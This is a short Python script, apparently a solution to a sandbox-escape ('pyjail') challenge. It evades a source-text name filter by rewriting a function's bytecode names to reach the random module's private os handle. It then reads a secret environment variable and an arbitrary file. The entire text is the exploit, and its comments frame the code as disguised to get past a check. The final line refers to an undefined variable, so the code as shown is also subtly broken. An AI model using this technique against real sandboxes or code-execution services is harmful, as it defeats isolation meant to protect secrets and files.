# A check of the text sees the names that the text has. A code object keeps its names as a tuple of
# texts, and a new one can be made with other names.
import operator
import random
import types


def errand():
    # Harmless words. Nobody has to refuse them.
    return module.os_name, module.os_name.environ["MUSEUM_FLAG"]


# The same bytecode, but with another name in it: that of `random`'s own view of `os`. The names
# of attributes are given to attrgetter, as texts, where a check of the syntax does not look.
code = operator.attrgetter("__code__")(errand)
names = operator.attrgetter("co_names")(code)
names = tuple("_os" if name == "os_name" else name for name in names)
code = code.replace(co_names=names)

# A function made of it, in a namespace of our own.
made = types.FunctionType(code, {"module": random})
os, flag = made()

print(flag)
print(os.read(os.open(outside["file"], os.O_RDONLY), 100).decode())
